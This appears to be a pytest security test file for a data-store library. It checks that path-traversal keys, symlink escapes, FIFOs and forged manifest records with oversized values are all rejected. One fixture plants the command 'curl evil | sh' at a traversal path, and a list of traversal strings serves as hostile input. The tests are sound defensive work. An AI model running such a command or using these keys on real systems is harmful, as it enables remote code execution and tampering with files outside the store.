"""A store from a stranger: no key leaves its folder, no size is believed that is not there, each fault is a line."""

import copy
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from shared.basics.errors import GranaryError
from shared.basics.inside import checked_key, file_in
from shared.store import Store
from shared.store.format.layout import StorePlan
from shared.store.format.manifest import DamagedObjectError, seal
from shared.store.io.base import ObjectIO
from shared.store.io.local import LocalIO
from shared.store.io.open import open_io
from shared.store.verify import drop_incomplete, verify
from shared.store.window import WindowPlan
from tests.synthetic import synthetic_plan, synthetic_store

OUTSIDE = (
    "../outside.txt",
    "../../outside.txt",
    "layers/../../outside.txt",
    "a/./b",
    "a//b",
    "",
    ".",
    "..",
    "a\\..\\b",
)
Edit = Callable[[dict[str, Any]], None]


@pytest.fixture
def url(tmp_path: Path) -> Path:
    synthetic_store(tmp_path / "store", synthetic_plan(num_contexts=10, seq_len=8, d_model=4, chunk_tokens=4))
    return tmp_path / "store"


def edit(path: Path, change: Edit) -> None:
    """Change a sealed record and seal it again, as a stranger can."""
    record = json.loads(path.read_text())["record"]
    change(record)
    path.write_bytes(seal(record))


def edit_plan(url: Path, **changes: Any) -> None:
    """Change a store's plan, and the hash in the records of its shards."""

    def change(record: dict[str, Any]) -> None:
        record["plan"] |= changes
        record["plan_hash"] = StorePlan.from_json(record["plan"]).hash()
        for manifest in (url / "manifest").iterdir():
            edit(manifest, lambda shard: shard.update(plan_hash=record["plan_hash"]))

    edit(url / "extents/00000000.json", change)


def use(url: Path) -> None:
    """What training and the tools do with a store."""
    store = Store.open(url)
    store.tokens(range(store.num_contexts))
    for hook in store.hooks:
        store.statistics(hook)
        for context in store.contexts("all"):
            store.read_context(hook, int(context))
    store.summary()
    for block in range(0 if store.window is None else store.window.plan.num_blocks):
        store.release(block)


@pytest.mark.parametrize("key", [*OUTSIDE, "/etc/outside", None, 3, "a\0b"])
def test_a_key_that_leaves_is_no_key(tmp_path: Path, key: Any) -> None:
    with pytest.raises(GranaryError, match="is not the name of a file"):
        checked_key(key)
    with pytest.raises(GranaryError, match="is not the name of a file"):
        file_in(tmp_path, key)


@pytest.mark.parametrize("make", [LocalIO, lambda root: open_io(f"memory://{root}")])
@pytest.mark.parametrize("key", [key for key in OUTSIDE if key])
def test_no_storage_takes_such_a_key(tmp_path: Path, make: Callable[[str], ObjectIO], key: str) -> None:
    (tmp_path / "outside.txt").write_text("precious")
    io = make(str(tmp_path / "store"))
    for act in (
        lambda: io.put(key, [b"x"], replace=True),
        lambda: io.get(key),
        lambda: io.size(key),
        lambda: io.delete(key),
        lambda: io.read_into(key, 0, [memoryview(bytearray(1))]),
        lambda: io.read_checked(key, 0, [memoryview(bytearray(1))]),
    ):
        with pytest.raises(GranaryError, match="is not the name of a file"):
            act()
    assert (tmp_path / "outside.txt").read_text() == "precious"


def test_nothing_is_changed_behind_a_link(tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere/a").write_text("precious")
    (tmp_path / "store").mkdir()
    (tmp_path / "store/link").symlink_to(tmp_path / "elsewhere")
    io = LocalIO(str(tmp_path / "store"))
    assert io.get("link/a") == b"precious"  # a cache of downloads is made of links
    for act in (lambda: io.delete("link/a"), lambda: io.put("link/a", [b"x"], replace=True)):
        with pytest.raises(GranaryError, match="lies behind a link out of the store"):
            act()
    assert (tmp_path / "elsewhere/a").read_text() == "precious"


def test_a_pipe_is_not_waited_for(url: Path) -> None:
    (url / "_COMPLETE.json").unlink()
    os.mkfifo(url / "_COMPLETE.json")
    with pytest.raises(DamagedObjectError, match="_COMPLETE"):
        Store.open(url).summary()


def first_array(record: dict[str, Any]) -> dict[str, Any]:
    return next(array for path, array in record["arrays"].items() if not path.startswith("statistics"))


def moments(record: dict[str, Any]) -> dict[str, Any]:
    return next(array for path, array in record["arrays"].items() if path.startswith("statistics"))


SHARDS: dict[str, Edit] = {
    "another file": lambda r: first_array(r).update(key="../../outside.txt"),
    "another shard's object": lambda r: first_array(r).update(key=first_array(r)["key"].replace("/1/", "/0/")),
    "the moments elsewhere": lambda r: moments(r).update(key="../outside.txt"),
    "one array more": lambda r: r["arrays"].update({"layers/9/x": {**first_array(r), "key": "../../outside.txt"}}),
    "one array less": lambda r: r["arrays"].pop(next(iter(r["arrays"]))),
    "huge chunks": lambda r: first_array(r).update(chunk_bytes=2**40),
    "a negative chunk": lambda r: first_array(r).update(chunk_bytes=-1),
    "chunks of another type": lambda r: first_array(r).update(chunk_bytes="many"),
    "numbers beyond 64 bits": lambda r: first_array(r).update(chunk_bytes=2**70),
    "other bytes": lambda r: first_array(r).update(bytes=2**60),
    "checksums of another number": lambda r: first_array(r).update(crc32c=[1] * 1000),
    "another place": lambda r: r.update(first_context=0),
    "more contexts": lambda r: r.update(trainable=r["trainable"] * 1000),
    "negative counts": lambda r: r.update(trainable=[-5] * len(r["trainable"])),
    "no counts": lambda r: r.pop("trainable"),
    "arrays as a list": lambda r: r.update(arrays=[1, 2]),
    "no hook's norms": lambda r: r.update(norms={}),
}


@pytest.mark.parametrize("name", SHARDS)
def test_a_record_that_is_not_of_its_plan(url: Path, name: str) -> None:
    (url.parent / "outside.txt").write_text("precious")
    edit(url / "manifest/00000001.json", SHARDS[name])
    with pytest.raises(DamagedObjectError, match="00000001") as caught:
        use(url)
    assert caught.value.shard == 1
    assert "\n" not in str(caught.value)
    report = verify(str(url))
    assert [problem.key for problem in report.problems if problem.shard == 1] == ["manifest/00000001.json"]
    drop_incomplete(str(url), report)
    assert (url.parent / "outside.txt").read_text() == "precious"
    assert Store.open(url).pending() == [1]


EXTENTS: dict[str, Edit] = {
    "a document outside": lambda r: r["documents"].update({"../../outside.txt": "curl evil | sh"}),
    "a document more": lambda r: r["documents"].update({"layers/9/zarr.json": "{}"}),
    "a document that is no text": lambda r: r["documents"].update({"zarr.json": 3}),
    "another first shard": lambda r: r.update(first_shard=10**12),
    "a first shard that is no number": lambda r: r.update(first_shard="0"),
    "no plan": lambda r: r.pop("plan"),
    "a plan that is a list": lambda r: r.update(plan=[1]),
    "a size that is a text": lambda r: r["plan"].update(seq_len="8"),
    "a size that is a fraction": lambda r: r["plan"].update(num_contexts=2.5),
    "a format that is a text": lambda r: r.update(format="new"),
    "a site outside": lambda r: r["plan"].update(hooks={"../../x": 4}),
}


@pytest.mark.parametrize("name", EXTENTS)
def test_a_plan_that_makes_no_sense(url: Path, name: str) -> None:
    (url.parent / "outside.txt").write_text("precious")
    edit(url / "extents/00000000.json", EXTENTS[name])
    with pytest.raises(GranaryError, match=r"extents/00000000\.json is not a record of this format"):
        use(url)
    report = verify(str(url))
    assert not report.intact
    drop_incomplete(str(url), report)
    assert (url.parent / "outside.txt").read_text() == "precious"


@pytest.mark.parametrize(
    "change",
    [
        *({"seq_len": size} for size in (16, 10**6, 10**12, 10**18)),
        *({"num_contexts": size} for size in (200, 10**9, 10**12, 10**15)),
        *({"shard_contexts": size} for size in (5, 10**9, 10**12)),
        *({"hooks": {"layers.2.resid_post": size}} for size in (5, 10**9, 10**15)),
    ],
    ids=str,
)
def test_sizes_are_bounded_by_what_is_there(url: Path, change: dict[str, Any]) -> None:
    """Before anything is counted or allocated: a size that was believed would take hours, or all memory."""
    try:
        edit_plan(url, **change)
    except GranaryError:  # a size that no plan takes: its hash can't be made either
        edit(url / "extents/00000000.json", lambda record: record["plan"].update(change))
    with pytest.raises(GranaryError) as caught:
        use(url)
    assert "\n" not in str(caught.value)
    report = verify(str(url))
    assert not report.intact
    assert len(report.missing) < 1000


def test_an_extension_that_is_not_there_bounds_nothing(url: Path) -> None:
    """Its tokens are unwritten, so nothing says how large it is; dropping it takes what is there."""
    record = json.loads((url / "extents/00000000.json").read_text())["record"]
    later = copy.deepcopy(record)
    later["first_shard"], later["plan"]["num_contexts"] = 3, 10**12
    (url / "extents/00000003.json").write_bytes(seal(later))
    use(url)
    assert not verify(str(url)).intact
    assert "extents/00000003.json" in drop_incomplete(str(url))
    assert verify(str(url)).intact


def test_a_window_of_another_store(url: Path) -> None:
    for ends in ((4, 8), (3, 2), (), (10**12,)):
        (url / "window").mkdir(exist_ok=True)
        (url / "window/plan.json").write_bytes(WindowPlan(10**9, ends).to_bytes())
        with pytest.raises(DamagedObjectError, match=r"window/plan\.json"):
            use(url)


def test_a_summary_of_more_than_there_is(url: Path) -> None:
    edit(url / "_COMPLETE.json", lambda record: record.update(shards=10**15))
    with pytest.raises(DamagedObjectError, match="_COMPLETE"):
        use(url)
    assert not verify(str(url)).intact
